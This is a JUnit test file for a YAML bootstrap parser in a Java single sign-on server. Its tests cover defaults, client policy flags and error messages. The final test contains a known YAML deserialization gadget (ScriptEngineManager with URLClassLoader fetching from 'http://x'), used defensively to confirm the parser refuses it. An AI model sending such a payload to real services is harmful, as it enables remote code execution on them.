package io.microsys.sso.provider.setup.bootstrap;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Reading the bootstrap YAML: defaults, types and syntax, without a database. */
class BootstrapParserTests {

	@Test
	void parseWhenOptionalKeysOmittedThenDefaultsOfTheContract() {
		BootstrapFile file = BootstrapParser.parse("""
				scopes:
				  - name: Finance
				users:
				  - username: alice
				    password: "correct horse battery staple"
				clients:
				  - client_id: wiki
				    name: Team Wiki
				    redirect_uris: [https://wiki.example.com/cb]
				memberships:
				  - client: wiki
				    user: alice
				    role: user
				""");

		assertThat(file.scopes()).singleElement()
			.isEqualTo(new BootstrapFile.ScopeEntry("scopes[0] (name 'Finance')", "Finance", null));
		BootstrapFile.UserEntry alice = file.users().get(0);
		assertThat(alice.language()).isEqualTo("en");
		assertThat(alice.active()).isTrue();
		assertThat(alice.staff()).isFalse();
		assertThat(alice.superuser()).isFalse();
		assertThat(alice.email()).isNull();
		assertThat(alice.passwordHash()).isNull();
		BootstrapFile.ClientEntry wiki = file.clients().get(0);
		assertThat(wiki.secret()).isNull();
		assertThat(wiki.grantTypes()).containsExactly("authorization_code", "refresh_token");
		assertThat(wiki.scopes()).containsExactly("openid", "profile", "email");
		assertThat(wiki.postLogoutRedirectUris()).isEmpty();
		assertThat(wiki.backchannelLogoutUri()).isNull();
		assertThat(wiki.policy()).isEqualTo(new BootstrapFile.PolicyEntry(true, false, true, false, true, false, false,
				false, false, false, false, false));
		assertThat(file.memberships()).singleElement()
			.isEqualTo(new BootstrapFile.MembershipEntry("memberships[0] (client 'wiki', user 'alice')", "wiki",
					"alice", "user", true));
	}

	@Test
	void parseWhenRequireParOrRequireDpopThenAllowedToo() {
		BootstrapFile file = BootstrapParser.parse("""
				clients:
				  - client_id: strict
				    name: Strict
				    secret: "strict-secret-123"
				    redirect_uris: [https://strict.example.com/cb]
				    policy: {require_par: true, require_dpop: true}
				  - client_id: open
				    name: Open
				    secret: "open-secret-1234"
				    redirect_uris: [https://open.example.com/cb]
				    policy: {allow_par: true, allow_dpop: true}
				""");

		BootstrapFile.PolicyEntry strict = file.clients().get(0).policy();
		assertThat(strict).extracting("allowPar", "requirePar", "allowDpop", "requireDpop")
			.containsExactly(true, true, true, true);
		BootstrapFile.PolicyEntry open = file.clients().get(1).policy();
		assertThat(open).extracting("allowPar", "requirePar", "allowDpop", "requireDpop")
			.containsExactly(true, false, true, false);
		assertThat(open.toPolicy().isParAllowed()).isTrue();
		assertThat(open.toPolicy().isRequireDpop()).isFalse();
	}

	@Test
	void parseWhenFileEmptyOrOnlyCommentsThenNothingToDo() {
		BootstrapFile empty = new BootstrapFile(List.of(), List.of(), List.of(), List.of());

		assertThat(BootstrapParser.parse("")).isEqualTo(empty);
		assertThat(BootstrapParser.parse("# later\n")).isEqualTo(empty);
		assertThat(BootstrapParser.parse("scopes:\nusers: []\n")).isEqualTo(empty);
	}

	@Test
	void parseWhenPasswordHasSurroundingSpacesThenKeptAsWritten() {
		BootstrapFile file = BootstrapParser.parse("users:\n  - username: ' alice '\n    password: \" pass phrase \"\n");

		assertThat(file.users().get(0).username()).isEqualTo("alice");
		assertThat(file.users().get(0).password()).isEqualTo(" pass phrase ");
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '"', textBlock = """
			users: {}                                                   | users: must be a list of entries
			users: [alice]                                              | users[0]: must be a mapping of keys to values
			users: [{username: [alice]}]                                | users[0]: 'username' must be text
			users: [{username: alice, active: 'no'}]                    | users[0] (username 'alice'): 'active' must be true or false
			users: [{username: alice, password: 1234567890123}]         | users[0] (username 'alice'): 'password' must be non-empty text (put it in quotes)
			users: [{email: a@example.com}]                             | users[0]: 'username' is required
			clients: [{client_id: a, name: A, redirect_uris: https://a.example.com}] | clients[0] (client id 'a'): 'redirect_uris' must be a list
			clients: [{client_id: a, name: A, policy: [active]}]        | clients[0] (client id 'a').policy: must be a mapping of keys to values
			clients: [{client_id: a, name: A, policy: {allow_dpop: 'yes'}}] | clients[0] (client id 'a').policy: 'allow_dpop' must be true or false
			clients: [{client_id: a, name: A, policy: {require_par: 1}}] | clients[0] (client id 'a').policy: 'require_par' must be true or false
			memberships: [{client: a, user: b}]                         | memberships[0] (client 'a', user 'b'): 'role' is required
			scopes: [{name: A, owner: b}]                               | scopes[0] (name 'A'): unknown key 'owner' (allowed: description, name)
			""")
	void parseWhenValueHasWrongShapeThenProblemNamesEntryAndKey(String yaml, String expected) {
		assertThatThrownBy(() -> BootstrapParser.parse(yaml)).isInstanceOf(BootstrapProblem.class).hasMessage(expected);
	}

	@Test
	void parseWhenYamlBrokenInsideAPasswordThenLineIsNamedAndPasswordIsNot() {
		String yaml = "users:\n  - username: alice\n    password: \"s3cret-value\n  - username: bob\n";

		assertThatThrownBy(() -> BootstrapParser.parse(yaml)).isInstanceOf(BootstrapProblem.class)
			.hasMessageStartingWith("the file is not valid YAML at line ")
			.hasMessageNotContaining("s3cret-value");
	}

	@Test
	void parseWhenYamlAsksForAJavaTypeThenRefused() {
		String yaml = "users: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]";

		assertThatThrownBy(() -> BootstrapParser.parse(yaml)).isInstanceOf(BootstrapProblem.class)
			.hasMessageContaining("the file is not valid YAML");
	}

}
